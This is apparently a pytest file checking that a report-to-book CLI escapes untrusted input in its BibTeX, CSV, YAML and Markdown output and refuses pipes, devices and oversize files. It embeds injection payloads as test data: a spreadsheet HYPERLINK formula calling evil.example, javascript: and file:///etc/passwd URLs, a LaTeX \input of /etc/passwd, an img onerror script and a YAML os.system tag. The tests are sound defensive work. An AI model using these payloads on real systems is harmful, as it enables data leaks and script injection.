"""Every input of `briefing new` and `briefing suggest-themes` is untrusted: what they write keeps a report's text as text."""

from __future__ import annotations

import csv
import os
import signal
import time
from pathlib import Path

import pytest
import yaml
from markdown_it import MarkdownIt
from pybtex.database import parse_file
from pybtex.richtext import Text as RichText

from briefing import load_dataset
from briefing.cli import main
from briefing.editor.new import files
from briefing.editor.new.formats import from_markdown
from briefing.editor.new.parse import ReportError, parse_report
from briefing.editor.suggest import REVIEW_FILE
from briefing.text.escape import bib_text, bib_url, markdown_text, metadata_text, yaml_line
from helpers import PROJECT_ROOT

SANDBANK_HTML = PROJECT_ROOT / "tests" / "fixtures" / "reports" / "sandbank-2027.html"
SANDBANK = SANDBANK_HTML.with_suffix(".txt")
#: The reproduced attack: a heading that closes the BibTeX title and opens a url field of its own.
CLOSING_HEADING = "X}, url = {javascript:alert(1)}, howpublished = {x"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"Click")'


def new_from(tmp_path: Path, report: Path | str, capsys) -> tuple[int, str, Path]:
    """Run `briefing new` on a report into the book tmp_path/draft; return the exit code, the error output and its data folder."""
    out = tmp_path / "draft"
    code = main(["new", str(report), str(out)])
    return code, capsys.readouterr().err, out / "data"


def html_report(tmp_path: Path, heading: str) -> Path:
    """Write the made-up HTML report with another first heading."""
    page = SANDBANK_HTML.read_text(encoding="utf-8").replace(
        "<h1>Sandbank Coastal Workshop 2027</h1>", f"<h1>{heading.replace('&', '&amp;').replace('<', '&lt;')}</h1>"
    )
    path = tmp_path / "report.html"
    path.write_text(page, encoding="utf-8")
    return path


def text_report(tmp_path: Path, text: str, name: str = "report.txt") -> Path:
    """Write a plain-text report."""
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def raw_rows(path: Path) -> list[dict[str, str]]:
    """Read a CSV file's cells exactly as a spreadsheet program receives them."""
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


# 1. BibTeX: the report's title stays inside its field


@pytest.mark.parametrize(
    "heading",
    [CLOSING_HEADING, r"100% \input{/etc/passwd} @misc{evil, title={x}} \\ # & _ ~", "Unbalanced }}} braces {"],
)
def test_a_heading_cannot_add_fields_or_entries_to_references_bib(tmp_path, capsys, heading):
    """A heading with braces, backslashes, '@' or '%' stays inside the report's title field, and pybtex reads it back."""
    code, err, out = new_from(tmp_path, html_report(tmp_path, heading), capsys)
    assert code == 0, err
    bib = parse_file(str(out / "references.bib"), bib_format="bibtex")
    entry = bib.entries["report"]
    assert set(entry.fields) == {"title", "year", "note"} and set(entry.persons) == {"author"}
    assert entry.fields["title"] == bib_text(metadata_text(heading))  # generated from event.yml's title
    shown = str(RichText.from_latex(entry.fields["title"]))
    assert "javascript:alert(1)" not in "".join(e.fields.get("url", "") for e in bib.entries.values())
    assert shown.replace(r"\textbraceleft ", "{").replace(r"\textbraceright ", "}") == metadata_text(heading)
    assert set(bib.entries) == {"report"}  # no entry of the heading's own, none copied from this briefing
    assert load_dataset(out).event.title == metadata_text(heading)  # metadata refuses < > { } `: replaced, and noted
    assert "replaced: check" in (out / "event.yml").read_text(encoding="utf-8")


def test_every_url_in_the_draft_references_is_http():
    """Only http(s) addresses with a host and nothing that could end the field are written into a url field."""
    assert bib_url("https://example.org/report?id=1%20a#top") == "https://example.org/report?id=1%20a#top"
    for url in [
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "file:///etc/passwd",
        "https://x}, note = {y",
        "http://trusted.example@elsewhere.example/",
        "https:///no-host",
        "http://exa mple.org",
    ]:
        assert bib_url(url) is None, url


# 2. Formulas: defused in every CSV file the tools write, read back as written


def formula_report(tmp_path: Path) -> Path:
    """Write a report whose speaker's role is a spreadsheet formula and whose passage has a line beginning with '-'."""
    return text_report(
        tmp_path,
        "Intro: we met on 4 May 2027.\n\n"
        f"Dr. Ann Lee, {FORMULA}, Invented Institute\n\n"
        "Dr. Ann Lee speaks.\n\n"
        "-harbour clusters and regional innovation strategies decide the region's future.\n\n"
        "Dr. Bo Kim, Mayor of Sandbank\n\n"
        "Dr. Bo Kim says the tidal energy cluster needs patient capital.\n",
    )


def test_the_draft_contributions_csv_defuses_formulas_and_loads_as_written(tmp_path, capsys):
    """A report's formula is written as text for a spreadsheet ("'=...") and the loader reads back the report's words."""
    code, err, out = new_from(tmp_path, formula_report(tmp_path), capsys)
    assert code == 0, err
    raw = raw_rows(out / "contributions.csv")
    assert raw[0]["role"] == "'" + FORMULA
    assert not [cell for row in raw for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert load_dataset(out).contribution["lee"].role == FORMULA


def test_an_editors_summary_beginning_with_a_dash_still_loads_as_written(tmp_path, capsys):
    """A summary the editor writes with a leading '-' or '=' (defused by a spreadsheet or not) loads unchanged."""
    code, err, out = new_from(tmp_path, SANDBANK, capsys)
    assert code == 0, err
    path = out / "contributions.csv"
    rows = raw_rows(path)
    rows[0]["summary"], rows[1]["summary"] = "'- According to the report, tides.", "= According to the report, ebb."
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
    ds = load_dataset(out)
    assert [ds.contributions[0].summary, ds.contributions[1].summary] == [
        "- According to the report, tides.",
        "= According to the report, ebb.",
    ]


def test_the_review_file_and_accepted_links_defuse_formulas_and_keep_the_evidence(tmp_path, capsys):
    """Evidence beginning with '-' is defused in theme_suggestions.csv and contribution_themes.csv, and accepted verbatim."""
    code, err, out = new_from(tmp_path, formula_report(tmp_path), capsys)
    assert code == 0, err
    (out / "themes.csv").write_text(  # a new book starts with no vocabulary: the editors write one
        "id,label,category,definition\nclusters,Clusters,approach,Harbour clusters and regional innovation.\n",
        encoding="utf-8",
    )
    assert main(["suggest-themes", str(out), "--threshold", "0.01"]) == 0
    rows = raw_rows(out / REVIEW_FILE)
    dashed = [r for r in rows if r["evidence"].startswith("'-harbour")]
    assert dashed, rows
    assert not [cell for row in rows for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    dashed[0]["decision"], dashed[0]["about_ruhr"] = "accept", "no"
    with (out / REVIEW_FILE).open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
    assert main(["accept-themes", str(out)]) == 0, capsys.readouterr().err
    assert raw_rows(out / "contribution_themes.csv")[0]["evidence"] == dashed[0]["evidence"]
    assert load_dataset(out).links[0].evidence == dashed[0]["evidence"][1:]


# 3. Bounded input: only a regular file, and not a huge one


@pytest.fixture
def deadline():
    """Fail a test that would hang (a pipe opened for reading waits for a writer) instead of hanging the run."""

    def hung(*_):
        raise TimeoutError("`briefing new` hung")

    previous = signal.signal(signal.SIGALRM, hung)
    signal.alarm(10)
    yield
    signal.alarm(0)
    signal.signal(signal.SIGALRM, previous)


def test_a_pipe_is_refused_without_waiting_for_it(tmp_path, capsys, deadline):
    """A named pipe given as the report is refused at once with exit 1 (it is never opened, so nothing hangs)."""
    fifo = tmp_path / "report.txt"
    os.mkfifo(fifo)
    code, err, out = new_from(tmp_path, fifo, capsys)
    assert code == 1 and "is a pipe, not a report file" in err and "Nothing was written" in err
    assert not out.parent.exists()


# /dev/null stands for every device: /dev/zero, the same kind, once ended in a MemoryError (and may kill the test run).
@pytest.mark.parametrize(("path", "kind"), [("/dev/null", "a device"), (".", "a folder")])
def test_devices_and_folders_are_refused(tmp_path, capsys, path, kind):
    """A device or a folder given as the report exits 1 with one line saying what it is, and it is never opened."""
    code, err, out = new_from(tmp_path, path, capsys)
    assert code == 1 and f"is {kind}, not a report file" in err and len(err.strip().splitlines()) == 1
    assert not out.parent.exists()


def test_a_report_above_the_size_limit_is_refused_before_it_is_read(tmp_path, capsys, monkeypatch):
    """A report larger than MAX_REPORT_FILE_BYTES exits 1 with its size and the limit, and writes nothing."""
    big = tmp_path / "report.txt"
    with big.open("wb") as handle:
        handle.truncate(files.MAX_REPORT_FILE_BYTES + 1)  # sparse: no disk space needed
    monkeypatch.setattr(files.os, "read", None)  # nothing may read it (a 100 MB report once wrote a 171 MB folder)
    code, err, out = new_from(tmp_path, big, capsys)
    assert code == 1 and "is 5 MB, but a report may be at most 5 MB" in err
    assert not out.parent.exists()


def test_a_report_is_read_only_up_to_the_limit(tmp_path, monkeypatch):
    """At most MAX_REPORT_FILE_BYTES + 1 bytes are read, so a file that grows after the check is refused, not read whole."""
    path = text_report(tmp_path, "x" * 100)
    monkeypatch.setattr(files, "_check_report", lambda *_: None)  # as if it had grown since it was checked
    monkeypatch.setattr(files, "MAX_REPORT_FILE_BYTES", 10)
    with pytest.raises(ReportError, match="larger than"):
        files.read_report_bytes(path)
    monkeypatch.setattr(files, "MAX_REPORT_FILE_BYTES", 100)
    assert files.read_report_bytes(path) == b"x" * 100


def test_markdown_and_long_lines_are_read_in_linear_time():
    """Unclosed emphasis, a run of brackets and a very long 'header' line take moments, not hours (within the size limit)."""
    started = time.monotonic()
    from_markdown("x *a" * 50_000 + "[a](" * 50_000 + "[" * 50_000)
    with pytest.raises(ReportError, match="no speaker found"):
        parse_report("Intro.\n\nDr. Ann Lee, (" + " at" * 50_000 + "\n\nDr. Ann Lee says.\n")
    assert time.monotonic() - started < 5


# 4. The output folder: a clear message, never a traceback, nothing left half-written


def test_an_output_path_that_is_a_file_is_refused(tmp_path, capsys):
    """`briefing new REPORT FILE` exits 1 saying the path is a file, and leaves the file alone."""
    target = text_report(tmp_path, "mine\n", "notes.txt")
    assert main(["new", str(SANDBANK), str(target)]) == 1
    err = capsys.readouterr().err
    assert f"{target} is a file, not a folder" in err and "Nothing was written" in err
    assert target.read_text(encoding="utf-8") == "mine\n"


def test_an_output_path_under_a_file_is_refused(tmp_path, capsys):
    """A folder that cannot be made because its parent is a file exits 1 naming that file."""
    parent = text_report(tmp_path, "mine\n", "notes.txt")
    assert main(["new", str(SANDBANK), str(parent / "draft")]) == 1
    assert f"{parent} is a file, so {parent / 'draft'} cannot be made inside it" in capsys.readouterr().err


def test_an_output_path_that_cannot_be_looked_at_is_refused(tmp_path, capsys, monkeypatch):
    """A folder whose parent may not be read (a permission error while checking it) exits 1 with the reason."""

    def forbidden(self: Path) -> bool:
        raise PermissionError(13, "Permission denied", str(self))

    monkeypatch.setattr(Path, "exists", forbidden)
    assert main(["new", str(SANDBANK), str(tmp_path / "locked" / "draft")]) == 1
    assert "draft cannot be read (Permission denied): choose a folder you may write to" in capsys.readouterr().err


@pytest.mark.parametrize("existing", [False, True])
def test_a_folder_that_cannot_be_written_leaves_nothing_behind(tmp_path, capsys, monkeypatch, existing):
    """A write that fails half-way (no permission, full disk) exits 1 with the reason and removes what was written."""
    from briefing.editor.new import write

    def refuse(out_dir, *_):
        raise PermissionError(13, "Permission denied", str(out_dir / "publication.yml"))

    monkeypatch.setattr(write, "_write_publication", refuse)
    out = tmp_path / "draft"
    if existing:
        out.mkdir()
    assert main(["new", str(SANDBANK), str(out)]) == 1
    err = capsys.readouterr().err
    assert f"{out} cannot be written: Permission denied" in err and "Nothing was written" in err
    assert (sorted(out.iterdir()) == []) if existing else not out.exists()


# 5. YAML and Markdown: written by a library or escaped, never markup


def test_event_yml_keeps_any_title_and_file_name_as_text(tmp_path, capsys):
    """A title with YAML syntax and a file name with YAML line breaks are read back from event.yml exactly."""
    heading = 'Evil: "quoted" # not a comment &anchor *alias !!python/object:os.system \''
    page = html_report(tmp_path, heading).read_text(encoding="utf-8")
    report = tmp_path / "report\u2028source_title: x\x85.html"
    report.write_text(page, encoding="utf-8")
    code, err, out = new_from(tmp_path, report, capsys)
    assert code == 0, err
    values = yaml.safe_load((out / "event.yml").read_text(encoding="utf-8"))
    assert values["title"] == heading and values["source_title"] == ""
    assert values["source_document"] == "sources/report\u2028source_title: x\x85.txt"
    assert yaml.safe_load(yaml_line("k", "a\x85b", "note")) == {"k": "a\x85b"}


def test_parse_report_md_shows_the_reports_words_never_markup(tmp_path, capsys):
    """HTML, links, code and table pipes in report lines appear as text in PARSE-REPORT.md, never as markup."""
    hostile = "<img src=x onerror=alert(1)> [click](javascript:alert(1)) `x` | *y* {eval}`z` $m$"
    report = text_report(
        tmp_path,
        f"{hostile}\n\nDr. Ann Lee, Director, Inst | <b>itute</b>\n\nDr. Ann Lee speaks.\n\nDr. Jo Fox, {hostile}\n",
    )
    code, err, out = new_from(tmp_path, report, capsys)
    assert code == 0, err
    page = MarkdownIt("commonmark").enable("table").render((out / "PARSE-REPORT.md").read_text(encoding="utf-8"))
    assert "<img" not in page and "<b>" not in page and "href" not in page and "<em>" not in page and "math" not in page
    assert page.count("<code>") == 2  # the page's own `briefing new` and `sources/`, none of the report's
    assert page.count("&lt;img src=x onerror=alert(1)&gt; [click](javascript:alert(1)) `x` | *y* {eval}`z` $m$") == 2
    assert "<td>Inst | &lt;b&gt;itute&lt;/b&gt;</td>" in page  # one cell, its pipe text
    assert markdown_text("a|b") == r"a\|b"
